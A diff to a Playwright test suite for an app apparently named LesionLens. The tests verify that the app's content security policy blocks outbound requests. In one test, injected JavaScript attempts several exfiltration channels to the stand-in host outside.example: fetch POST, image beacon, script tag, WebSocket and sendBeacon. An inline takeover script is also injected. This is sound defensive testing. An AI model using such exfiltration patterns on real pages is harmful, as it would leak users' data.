@@ -97,7 +97,8 @@ def test_a_whole_visit_asks_nobody_outside(
             requested: list[str] = []
             app.page.on("request", lambda request: requested.append(request.url))
             visit(app, phantom_jpeg)
-            app.reload()
+            with app.page.expect_request(lambda request: request.url.startswith(kit.REFUSED)):
+                app.reload()
             app.wait_for_text(app.texts("common.tab_scan"))
             probe = app.page.context.new_page()  # the recorder does hear what goes out
             answer = probe.goto("http://outside.example/")
@@ -120,8 +121,13 @@ def test_the_policy_stops_a_page_that_would_send_something(open_app: OpenApp) ->
     tried = app.page.evaluate(
         """async () => {
           const blocked = [];
-          document.addEventListener('securitypolicyviolation',
-            (event) => blocked.push(event.effectiveDirective));
+          let isAll;
+          const all = new Promise((resolve) => { isAll = resolve; });
+          document.addEventListener('securitypolicyviolation', (event) => {
+            if (event.blockedURI.startsWith('https://cdn.jsdelivr.net/')) return; // Flet's own
+            blocked.push(event.effectiveDirective);
+            if (blocked.length === 6) isAll();
+          });
           await fetch('https://outside.example/', {method: 'POST', body: 'x'}).catch(() => {});
           new Image().src = 'https://outside.example/?x';
           const script = document.createElement('script');
@@ -130,9 +136,10 @@ def test_the_policy_stops_a_page_that_would_send_something(open_app: OpenApp) ->
           try { new WebSocket('wss://outside.example/'); } catch {}
           navigator.sendBeacon('https://outside.example/', 'x');
           const inline = document.createElement('script');
-          inline.textContent = 'document.title = "taken over"';
+          inline.textContent = 'window.isTakenOver = true';
           document.head.append(inline);
-          await new Promise((resolve) => setTimeout(resolve, 300));
+          await Promise.race([all, new Promise((resolve) => setTimeout(resolve, 30000))]);
+          await new Promise((resolve) => setTimeout(resolve, 100)); // for what is too much
           return blocked;
         }"""
     )
@@ -140,7 +147,7 @@ def test_the_policy_stops_a_page_that_would_send_something(open_app: OpenApp) ->
     assert tried.count("connect-src") == 3
     assert tried.count("img-src") == 1
     assert tried.count("script-src-elem") == 2
-    assert app.page.title() == "LesionLens"
+    assert app.page.evaluate("window.isTakenOver") is None
 
 
 def test_python_connects_to_nobody_and_writes_no_file(
